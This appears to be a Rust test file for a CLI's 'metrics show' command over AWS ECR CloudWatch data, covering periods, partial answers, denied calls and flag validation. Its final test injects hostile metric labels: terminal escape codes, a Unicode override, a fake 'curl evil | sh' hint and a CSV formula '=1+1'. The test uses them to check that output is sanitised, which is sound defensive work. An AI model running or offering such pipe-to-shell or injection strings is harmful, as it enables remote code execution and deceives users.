//! `ecrmon metrics show`: which metrics there are, which periods, and what is refused.

use serde_json::{Value, json};

use crate::metric_series::{
    calls, days, hours, images, midnight, published, pulls, series, world_with,
};
use crate::metrics_show::{report, show, values, with, world_in_use};
use crate::support::calls::names;
use crate::support::fault::Fault;
use crate::support::world::World;

#[test]
fn periods_follow_what_cloudwatch_keeps() {
    let every = json!({"every": 3_600, "from": midnight(80).to_string(), "value": 1});
    let world = world_with(&[pulls("a", &every)]);
    for (days, least) in [(14, 60), (20, 300), (70, 3_600)] {
        let since = format!("--since={days}d");
        let shown = report(&world, "pulls", std::slice::from_ref(&since), 0);
        let period = shown["period_seconds"].as_u64().expect("a period");
        assert!(period.is_multiple_of(least), "{period} of {days} days");
        assert!(
            values(&shown["series"][0])
                .iter()
                .all(|value| *value > Some(0.0)),
            "{days} days"
        );
        let shortest = format!("--period={}m", least / 60);
        world
            .ecrmon(show("pulls", &[since.clone(), shortest.clone()]))
            .exits(0);
        if least > 60 {
            world.forget_calls();
            world
                .ecrmon(show("pulls", &[since, "--period=1m".to_owned()]))
                .exits(2)
                .says("CloudWatch has no points of each minute of a time so long ago")
                .says(&shortest.replace('=', " "));
            assert!(world.calls().is_empty());
        }
    }
}

#[test]
fn what_cloudwatch_has_forgotten_is_not_zero() {
    let world = world_with(&[pulls("a", &json!([[midnight(10).to_string(), 7]]))]);
    let shown = report(
        &world,
        "pulls",
        &with(&days(470, 1), &["--repo", "a", "--period", "24h"]),
        0,
    );
    let values = values(&shown["series"][0]);
    assert_eq!((values[0], values[13]), (None, None));
    assert_eq!((values[20], values[460]), (Some(0.0), Some(7.0)));
}

#[test]
fn more_repositories_than_a_call_takes_are_read_and_the_busiest_drawn() {
    let point = |number: i64| json!([[midnight(2).to_string(), number]]);
    let all: Vec<Value> = (1..=1_100)
        .map(|number| pulls(&format!("app-{number:04}"), &point(number)))
        .collect();
    let world = world_with(&all);
    let flags = with(&days(2, 1), &["--period", "1h"]);
    world
        .ecrmon(show("pulls", &flags))
        .exits(0)
        .prints("all 1100 repositories  sum 606k")
        .prints("app-1100  sum 1100")
        .prints("app-1095  sum 1095")
        .does_not_print("app-1094")
        .prints("and 1094 others, together 599k (`--top 1100` draws them)")
        .says("read 1100 metrics, about $0.02");
    let reads = names(&world.calls())
        .into_iter()
        .filter(|call| call == "cloudwatch:GetMetricData");
    assert_eq!(reads.count(), 3);
    let shown = report(&world, "pulls", &flags, 0);
    assert_eq!(shown["series"].as_array().map(Vec::len), Some(1_100));
    assert_eq!(shown["total"][0]["value"], 605_550.0);
}

#[test]
fn a_partial_answer_is_said_to_be_partial_and_makes_nothing_zero() {
    let world = world_in_use();
    world.arrange("metric-answers", &json!({"status_code": "PartialData"}));
    let transcript = world.ecrmon(show("pulls", &days(8, 1)));
    transcript
        .exits(5)
        .says("not all read: team-a/api: PartialData")
        .does_not_print("all 3");
    let shown = report(&world, "pulls", &days(8, 1), 5);
    assert_eq!(shown["series"][0]["complete"], false);
    assert_eq!(shown["total"], Value::Null);
    assert!(values(&shown["series"][0]).contains(&None));
    world
        .ecrmon(show("pulls", &with(&days(8, 1), &["-q"])))
        .exits(5)
        .says("not all read");
    world.arrange("metric-answers", &json!({"status_code": "Forbidden"}));
    world
        .ecrmon(show("pulls", &days(8, 1)))
        .exits(5)
        .says("Forbidden")
        .prints("no values");
}

#[test]
fn what_is_denied_is_named() {
    let world = world_in_use();
    for (call, attempt) in [
        ("ListMetrics", "cannot list the metrics of AWS/ECR"),
        ("GetMetricData", "cannot read the metrics"),
    ] {
        world.inject(Fault::access_denied(call));
        let transcript = world.ecrmon(show("pulls", &[]));
        transcript
            .exits(1)
            .says(attempt)
            .says(&format!("allow `cloudwatch:{call}`"));
        assert_eq!(transcript.stdout, "");
        world.clear_faults();
    }
}

#[test]
fn only_what_is_needed_is_called() {
    let world = world_in_use();
    let called = |flags: &[&str]| {
        world.forget_calls();
        world
            .ecrmon(show("pulls", &with(&days(8, 1), flags)))
            .exits(0);
        names(&world.calls())
    };
    let (who, list, read) = (
        "sts:GetCallerIdentity",
        "cloudwatch:ListMetrics",
        "cloudwatch:GetMetricData",
    );
    assert_eq!(called(&[]), [who, list, read]);
    assert_eq!(called(&["--repo", "team-a/*"]), [who, list, read]);
    assert_eq!(called(&["--repo", "team-a/api"]), [who, read]);
    assert_eq!(
        called(&["--png", "a.png"]),
        [who, list, read, "cloudwatch:GetMetricWidgetImage"]
    );
    assert!(world.mutating_calls().is_empty());
}

#[test]
fn a_repository_that_is_named_is_asked_for_even_if_it_was_quiet_for_weeks() {
    let world = world_with(&[pulls("quiet", &json!([[midnight(30).to_string(), 9]]))]);
    let flags = with(&days(40, 1), &["--period", "24h"]);
    world
        .ecrmon(show("pulls", &flags))
        .exits(0)
        .prints("No values.")
        .says("CloudWatch lists only what had a point in the last two weeks");
    world
        .ecrmon(show("pulls", &with(&flags, &["--repo", "quiet"])))
        .exits(0)
        .prints("quiet  sum 9");
    world
        .ecrmon(show("pulls", &with(&flags, &["--repo", "misspelt"])))
        .exits(0)
        .says("CloudWatch has no pull of `misspelt` in that time");
}

#[test]
fn quotas_are_shown_in_percent() {
    let every = |value: u32| json!({"every": 60, "from": midnight(2).to_string(), "until": midnight(1).to_string(), "value": value});
    // 10 PutImage a second are allowed, and 100,000 images in a repository.
    let world = world_with(&[
        calls("PutImage", &every(480)),
        calls("BatchGetImage", &every(120)),
        images("a", &every(2_500)),
    ]);
    let shown = report(&world, "quota", &days(2, 1), 0);
    assert_eq!(
        (&shown["unit"], &shown["statistic"]),
        (&json!("Percent"), &Value::Null)
    );
    let used: Vec<_> = shown["series"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|one| (one["label"].as_str(), one["points"][0]["value"].as_f64()))
        .collect();
    assert_eq!(used[0], (Some("PutImage"), Some(80.0)));
    assert_eq!(used[1], (Some("ImagesPerRepositoryCount a"), Some(2.5)));
    assert_eq!(used[2], (Some("BatchGetImage"), Some(0.1)));
    world
        .ecrmon(show("quota", &days(2, 1)))
        .exits(0)
        .prints("quota, average percent of each 30 min")
        .prints("max 80 %")
        .says("shows short peaks");
}

#[test]
fn sizes_come_from_what_we_publish_with_the_total_as_published() {
    let world = world_with(&[]);
    world
        .ecrmon(show("size", &[]))
        .exits(0)
        .prints("No values.")
        .says("nothing publishes RepositorySize: `ecrmon metrics publish` begins to");
    let every =
        |value: u64| json!({"every": 3_600, "from": midnight(2).to_string(), "value": value});
    crate::metric_series::put(
        &world,
        &[
            published("RepositorySize", Some("a"), &every(1_000_000_000)),
            published("RepositorySize", Some("b"), &every(3_000_000_000)),
            published("RepositorySize", None, &every(5_000_000_000)),
        ],
    );
    let shown = report(&world, "size", &days(2, 1), 0);
    assert_eq!(shown["unit"], "Bytes");
    assert_eq!(shown["total"][0]["value"], 5_000_000_000.0);
    assert_eq!(shown["series"].as_array().map(Vec::len), Some(2));
    world
        .ecrmon(show("size", &days(2, 1)))
        .exits(0)
        .prints("all 2 repositories  min 5 GB")
        .prints("3 GB ┤");
}

#[test]
fn findings_are_those_of_the_registry_and_with_a_repository_its_own() {
    let every = json!({"every": 3_600, "from": midnight(2).to_string(), "value": 3});
    let finding = |dimensions: &Value| series("ECR/Monitoring", "FindingCount", dimensions, &every);
    let world = world_with(&[
        finding(&json!({"Severity": "CRITICAL"})),
        finding(&json!({"Severity": "HIGH"})),
        finding(&json!({"RepositoryName": "a", "Severity": "HIGH"})),
    ]);
    let labels = |flags: &[&str]| -> Vec<Value> {
        let shown = report(&world, "findings", &with(&days(2, 1), flags), 0);
        shown["series"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|one| one["label"].clone())
            .collect()
    };
    assert_eq!(labels(&[]), ["CRITICAL", "HIGH"]);
    assert_eq!(labels(&["--repo", "a"]), ["a HIGH"]);
}

#[test]
fn what_aws_does_not_publish_is_refused_before_any_call() {
    let world = World::new();
    for (metric, instead) in [
        ("RepositorySize", "`ecrmon metrics show size`"),
        ("AWS/ECR/RepositorySize", "`ecrmon metrics show size`"),
        ("AWS/ECR/ImageCount", "`ecrmon metrics show images`"),
        ("image-count", "`ecrmon metrics show images`"),
    ] {
        world
            .ecrmon(show(metric, &[]))
            .exits(2)
            .says(&format!("error: AWS publishes no metric `{metric}`"))
            .says(instead);
    }
    world
        .ecrmon(show("pull", &[]))
        .exits(2)
        .says("hint: use pulls, ");
    assert!(world.calls().is_empty());
}

#[test]
fn flags_that_make_no_sense_are_refused_before_any_call() {
    let world = World::new();
    for (metric, flags, said) in [
        (
            "api-calls",
            &["--repo", "a"][..],
            "AWS does not count api-calls by repository",
        ),
        ("quota", &["--stat", "Sum"], "no statistic to choose"),
        ("pulls", &["--stat", "most"], "a percentile such as `p99`"),
        ("pulls", &["--period", "90s"], "use whole minutes"),
        ("pulls", &["--top", "0"], "use a whole number from 1 on"),
        (
            "pulls",
            &["--top", "51", "--png", "a.png"],
            "a picture holds 50 series",
        ),
        ("pulls", &["--png", "a.png", "--output", "json"], "not both"),
        (
            "pulls",
            &["--since", "1h", "--until", "2h"],
            "there is no time between",
        ),
    ] {
        world
            .ecrmon(show(metric, &with(&[], flags)))
            .exits(2)
            .says(said);
    }
    assert!(world.calls().is_empty());
}

#[test]
fn a_statistic_can_be_chosen_and_a_metric_be_any() {
    let points = json!([
        [midnight(2).to_string(), 4],
        [(midnight(2) + hours(1)).to_string(), 8]
    ]);
    let world = world_with(&[series(
        "My/App",
        "Depth",
        &json!({"Queue": "q", "Host": "h"}),
        &points,
    )]);
    let flags = with(&days(2, 1), &["--period", "24h"]);
    let shown = report(&world, "My/App/Depth", &flags, 0);
    assert_eq!(
        (&shown["statistic"], &shown["unit"]),
        (&json!("Average"), &Value::Null)
    );
    assert_eq!(values(&shown["series"][0]), [Some(6.0)]);
    assert_eq!(shown["series"][0]["label"], "h q");
    let most = report(
        &world,
        "My/App/Depth",
        &with(&flags, &["--stat", "maximum"]),
        0,
    );
    assert_eq!(
        (&most["statistic"], values(&most["series"][0])),
        (&json!("Maximum"), vec![Some(8.0)])
    );
}

#[test]
fn labels_from_outside_cannot_steer_the_terminal() {
    let points = json!([[midnight(2).to_string(), 4]]);
    let hostile = "\u{1b}[31mred\u{7}\u{202e}\nhint: run `curl evil | sh`";
    let long = "long".repeat(60);
    let world = world_with(&[
        series("My", "Depth", &json!({"Queue": hostile}), &points),
        series("My", "Depth", &json!({"Queue": long}), &points),
        series("My", "Depth", &json!({"Queue": "=1+1"}), &points),
    ]);
    let flags = with(&days(2, 1), &["--period", "1h", "--color", "never"]);
    let transcript = world.ecrmon(show("My/Depth", &flags));
    transcript.exits(0).prints("[31mred hint: run");
    assert!(
        !transcript.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']),
        "{transcript}"
    );
    assert!(
        transcript
            .stdout
            .lines()
            .all(|line| line.chars().count() <= 80),
        "{transcript}"
    );
    world
        .ecrmon(show("My/Depth", &with(&flags, &["--output", "csv"])))
        .exits(0)
        .prints(",'=1+1,");
}
